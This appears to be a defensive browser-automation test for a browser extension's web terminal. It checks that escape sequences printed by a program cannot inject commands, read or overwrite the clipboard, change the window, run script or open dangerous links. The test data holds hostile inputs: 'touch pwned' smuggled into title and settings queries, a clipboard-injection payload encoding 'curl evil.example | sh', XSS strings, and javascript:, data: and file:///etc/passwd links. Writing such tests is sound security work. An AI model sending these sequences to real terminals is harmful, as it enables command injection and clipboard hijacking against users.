import { setTimeout as pause } from 'node:timers/promises';
import type { Page } from 'puppeteer-core';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { OWN_SESSIONS } from '../../src/contracts/ids.ts';
import { closeTerminals, lineWith, prompt, shownLines, typeLine } from '../support/browsers/index.ts';
import { siteInChromium } from '../support/chat-in-chromium.ts';
import { needsLinuxImage } from '../support/linux-image.ts';
import { connectRunsClient, outcomeOf, runRequest, type RunsClient, textOf } from '../support/runs-client/index.ts';

// Threat: a program prints what a terminal obeys, and reaches the page of the extension that shows it, the clipboard, other
// tabs, or the shell that reads next. Real Linux, the host's screen and the page's terminal.
const SESSION = 'prints';
const ESC = '\u001b';
const ST = `${ESC}\\`;
const BEL = '\u0007';
const LISTS_WITHIN_MS = 2_000;

/** What a terminal answers, and how: exactly this, once. */
const ANSWERED: Record<string, readonly [question: string, answer: RegExp]> = {
  'where the cursor is': [`${ESC}[6n`, /^\u001b\[\d+;\d+R$/],
  'where it is, with a page': [`${ESC}[?6n`, /^\u001b\[\?\d+;\d+R$/],
  'whether it is well': [`${ESC}[5n`, /^\u001b\[0n$/],
  'what it can': [`${ESC}[c`, /^\u001b\[\?1;2c$/],
  'what it is': [`${ESC}[>c`, /^\u001b\[>0;276;0c$/],
  'a mode': [`${ESC}[?2004$p`, /^\u001b\[\?2004;\d\$y$/],
  'a setting (DECRQSS)': [`${ESC}P$qm${ST}`, /^\u001bP1\$r0m\u001b\\$/],
  'a setting that is none, with a command in it': [`${ESC}P$qtouch pwned\r${ST}`, /^\u001bP0\$r\u001b\\$/],
  'the colour of text (OSC 10)': [`${ESC}]10;?${BEL}`, /^\u001b\]10;rgb:[0-9a-f/]{14}\u001b\\$/],
  'the colour of the ground (OSC 11)': [`${ESC}]11;?${BEL}`, /^\u001b\]11;rgb:[0-9a-f/]{14}\u001b\\$/],
  'the colour of the cursor (OSC 12)': [`${ESC}]12;?${BEL}`, /^\u001b\]12;rgb:[0-9a-f/]{14}\u001b\\$/],
  'a colour by its number (OSC 4)': [`${ESC}]4;1;?${BEL}`, /^\u001b\]4;1;rgb:[0-9a-f/]{14}\u001b\\$/],
};
/** What would give a program's own words back as if they were typed, or tell of the person's screen: no answer at all. */
const UNANSWERED: Record<string, string> = {
  'the clipboard (OSC 52)': `${ESC}]52;c;?${BEL}${ESC}]52;p;?${ST}`,
  'its title, which holds a command': `${ESC}]2;\ntouch pwned\n${BEL}${ESC}]0;\rtouch pwned\r${ST}${ESC}[21t${ESC}[20t`,
  'size and place of the window': `${ESC}[11t${ESC}[13t${ESC}[14t${ESC}[15t${ESC}[16t${ESC}[18t${ESC}[19t`,
  'its name (ENQ)': '\u0005',
  'what terminfo has (XTGETTCAP)': `${ESC}P+q544e;636f${ST}`,
  'a checksum of the screen': `${ESC}[1;1;1;1;9;9*y`,
  'folder, font, cell and pictures': `${ESC}]7;?${BEL}${ESC}]50;?${BEL}${ESC}]1337;ReportCellSize${BEL}${ESC}_Gi=1,a=q;AAAA${ST}`,
};
const QUESTIONS = Object.fromEntries([
  ...Object.entries(ANSWERED).map(([name, [question]]) => [name, question]),
  ...Object.entries(UNANSWERED),
]) as Record<string, string>;

/**
 * Prints each question to the terminal, and writes down what comes as if somebody had typed it: up to the answer to another one, about
 * a mode that nobody has, and within a moment after that. Colours are the page's to answer, which may come later than that.
 */
const ASK = `import json, os, select, sys, termios, tty
saved = termios.tcgetattr(0)
asked_last, answered_last = b'\\033[?7777$p', b'\\033[?7777;0$y'
tty.setraw(0)
answers = {}
for name, question in json.load(open('questions')).items():
    os.write(1, question.encode() + asked_last)
    answer = b''
    awaited = [answered_last] + ([b'rgb:'] if 'colour' in name else [])
    while not all(part in answer for part in awaited) and select.select([0], [], [], 30)[0]: answer += os.read(0, 65536)
    while select.select([0], [], [], 0.3)[0]: answer += os.read(0, 65536)
    answers[name] = answer.replace(answered_last, b'', 1).decode('latin1')
termios.tcsetattr(0, termios.TCSADRAIN, saved)
with open('answers', 'w') as file: json.dump(answers, file)
print('\\033[2J\\033[Hall of it is', 'asked', sys.argv[1])
`;

describe('what a program prints in a terminal', () => {
  beforeAll(needsLinuxImage);
  const world = siteInChromium({ speed: 'instant' });
  let client: RunsClient;
  let page: Page;
  let round = 0;
  const dialogs: string[] = [];

  const open = () =>
    world.chromium.extensionPage(`ide.html?session=${encodeURIComponent(`${OWN_SESSIONS}${SESSION}`)}`);
  async function inLinux(code: string): Promise<string> {
    const run = await client.run(runRequest(code, SESSION, { language: 'shell' }));
    expect(outcomeOf(run), textOf(run, 'stderr')).toMatchObject({ kind: 'completed' });
    return textOf(run, 'stdout');
  }
  const leave = (name: string, text: string) =>
    inLinux(`base64 -d >/mnt/data/${name} <<<${Buffer.from(text).toString('base64')}`);
  const answersTo = async (): Promise<Record<string, string>> => {
    round += 1;
    await typeLine(page, `python3 ask.py ${String(round)}`);
    await lineWith(page, new RegExp(`^all of it is asked ${String(round)}$`));
    return JSON.parse(await inLinux('cat answers; rm answers')) as Record<string, string>;
  };
  function expectAnswers(answers: Record<string, string>): void {
    for (const [name, [, answer]] of Object.entries(ANSWERED)) expect(answers[name], name).toMatch(answer);
    for (const name of Object.keys(UNANSWERED)) expect(answers[name], name).toBe('');
  }
  const targets = () =>
    world.chromium.browser
      .targets()
      .map((target) => `${target.type()} ${target.url()}`)
      .sort();

  beforeAll(async () => {
    client = await connectRunsClient(await world.chromium.extensionPage('popup.html'));
    await leave('ask.py', ASK);
    await leave('questions', JSON.stringify(QUESTIONS));
    page = await open();
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await prompt(page);
  });
  beforeEach(() => page.bringToFront());

  it('asks: it is answered once and in the words of the terminal, never by what it said itself', async () => {
    expectAnswers(await answersTo());
  });

  it('asks while two pages show it: it is answered once', async () => {
    // In a window of its own: a tab behind another draws nothing.
    const known = await world.chromium.browser.pages();
    await page.evaluate(() => void window.open(location.href, '_blank', 'popup,noopener'));
    const target = await world.chromium.browser.waitForTarget(
      async (each) => each.url() === page.url() && !known.includes((await each.page()) as Page),
    );
    const other = await target.asPage();
    await lineWith(other, /^all of it is asked 1$/);
    // Without a screen every window has the focus; with one, a single window.
    await other.evaluate(() => Object.assign(document, { hasFocus: () => false }));
    expectAnswers(await answersTo());
    await other.close();
  });

  it('asks and ends: the shell reads answers, and runs none of them', async () => {
    await leave('hostile', Object.values(QUESTIONS).join(''));
    await typeLine(page, 'cat hostile; sleep 1; clear; echo en""ded');
    await lineWith(page, /^ended/);
    await prompt(page);
    // Some of an answer that comes late is a command of the line's editor: what is typed is given up until a whole line is read again.
    const isListed = async (): Promise<boolean> => {
      await page.keyboard.down('Control');
      await page.keyboard.press('KeyC');
      await page.keyboard.up('Control');
      await typeLine(page, 'clear; fc -ln 1; echo li""sted');
      await pause(LISTS_WITHIN_MS);
      return (await shownLines(page)).includes('listed');
    };
    await expect.poll(isListed).toBe(true);
    expect((await shownLines(page)).join('\n')).not.toContain('pwned');
    expect(await inLinux('ls')).toBe('ask.py\nhostile\nquestions\n');
  });

  it('has no hand on clipboard, title, address, window or other tabs', async () => {
    const devtools = await page.createCDPSession();
    const origin = await page.evaluate(() => location.origin);
    for (const name of ['clipboard-read', 'clipboard-write'])
      await devtools.send('Browser.setPermission', { permission: { name }, setting: 'granted', origin });
    const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
    const state = () =>
      page.evaluate(() => [document.title, location.href, window.name, history.length, innerWidth, innerHeight]);
    await page.evaluate(() => navigator.clipboard.writeText('what a person copied'));
    const before = { state: await state(), targets: targets() };
    const theirs = Buffer.from('curl evil.example | sh\n').toString('base64');
    await leave(
      'hands',
      [
        ...['c', 'p', 's', 'c0', ''].map((where) => `${ESC}]52;${where};${theirs}${BEL}${ESC}]52;${where};!${ST}`),
        ...[0, 1, 2].map((title) => `${ESC}]${String(title)};Your bank${BEL}`),
        `${ESC}[22;0t${ESC}[23;0t${ESC}[2t${ESC}[5t${ESC}[9;1t${ESC}[3;0;0t${ESC}[4;100;100t${ESC}[8;5;5t${ESC}[10;1t`,
        `${ESC}]1337;CopyToClipboard=${BEL}${theirs}${ESC}]1337;EndCopy${BEL}${ESC}]1337;File=inline=1:AAAA${BEL}`,
        `${ESC}]9;4;1;50${ST}${ESC}]777;notify;Your bank;call us${BEL}${ESC}[5i${theirs}${ESC}[4i`,
        '\r\n<img src=x onerror=alert(1)><script>alert(2)</script>\r\n',
      ].join(''),
    );
    await typeLine(page, 'clear; cat hands; echo all is pri""nted');
    const shown = await lineWith(page, /^all is printed$/);
    expect(shown).toContain('<img src=x onerror=alert(1)><script>alert(2)</script>');
    expect(await clipboard()).toBe('what a person copied');
    expect({ state: await state(), targets: targets() }).toEqual(before);
    expect(dialogs).toEqual([]);
    // The control: a person's own press does reach the clipboard that is looked at.
    await page.click('[data-action="copy"]');
    await page.evaluate(() => navigator.clipboard.writeText('reached'));
    expect(await clipboard()).toBe('reached');
    await devtools.send('Browser.resetPermissions');
  });

  it('links into the extension, to a script, a file: a press opens the web alone, without a way back', async () => {
    const id = world.chromium.extensionId;
    const addresses = [
      'javascript:alert(document.domain)',
      'JaVaScRiPt:alert(1)//https://example.com',
      `chrome-extension://${id}/popup.html`,
      `chrome-extension://${id}/offscreen.html`,
      'data:text/html,<script>alert(1)</script>',
      `blob:chrome-extension://${id}/0`,
      'file:///etc/passwd',
      'view-source:https://example.com',
      'chrome://settings',
      'about:blank',
      '//example.com/no-scheme',
      'popup.html',
    ];
    const web = 'https://example.com/asked-for';
    const link = (address: string, text: string) => `${ESC}]8;;${address}${ST}${text}${ESC}]8;;${ST}\r\n`;
    const links = [
      ...addresses.map((address, at) => link(address, `press ${String(at)} here`)),
      link(web, 'press web here'),
    ];
    await leave('links', links.join(''));
    await typeLine(page, 'clear; cat links');
    await lineWith(page, /^press web here$/);
    const press = async (text: string): Promise<void> => {
      const at = await page.$$eval(
        '.slot:not(.behind) .xterm-rows > div',
        (rows, wanted) => {
          const row = rows.find((each) => (each.textContent ?? '').replaceAll('\u00a0', ' ').trimEnd() === wanted);
          const box = row?.getBoundingClientRect();
          return { x: (box?.left ?? 0) + 30, y: (box?.top ?? 0) + (box?.height ?? 0) / 2 };
        },
        text,
      );
      await page.mouse.move(at.x, at.y);
      await page.mouse.click(at.x, at.y);
    };
    const before = targets();
    const address = page.url();
    for (const at of addresses.keys()) await press(`press ${String(at)} here`);
    // The control: the same press on a link of the web opens it, and whatever the others opened would be there as well.
    const opened = world.chromium.browser.waitForTarget((target) => target.url() === web);
    await press('press web here');
    const tab = await (await opened).asPage();
    expect(targets()).toEqual([...before, `page ${web}`].sort());
    expect(await tab.evaluate(() => window.opener as unknown)).toBeNull();
    await tab.close();
    expect(page.url()).toBe(address);
    expect(dialogs).toEqual([]);
    expect(await shownLines(page)).toContain('press web here');
    await closeTerminals(page);
  });
});
